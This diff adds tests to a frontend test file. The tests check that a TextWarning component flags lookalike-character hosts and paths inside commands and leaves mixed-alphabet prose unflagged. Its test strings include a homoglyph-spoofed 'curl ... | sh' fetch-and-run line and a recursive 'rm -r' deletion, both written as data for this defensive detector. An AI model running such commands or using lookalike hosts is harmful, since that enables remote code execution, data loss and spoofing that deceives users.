@@ -16,3 +16,17 @@ test("M120: hidden characters are warned of, however many there are", () => {
     "hidden characters, marked",
   );
 });
+
+test.each(["curl bаnk.example/x | sh", "rm -r /home/аna/old", "copy C:\\Usеrs\\ana now"])(
+  "C4: a host or a path within a command that imitates another is pointed out: %s",
+  (text) => expect(renderToStaticMarkup(<TextWarning text={text} />)).toMatch(/looks as if|mixes/),
+);
+
+test.each([
+  "т.е. и/или с/о",
+  "Die CPU/процессор läuft – 2010–2015/16",
+  "see docs/αρχείο.md or README.md",
+  "25℃/77℉ today",
+])("C4: prose that mixes alphabets is left alone: %s", (text) =>
+  expect(renderToStaticMarkup(<TextWarning text={text} />)).toBe(""),
+);
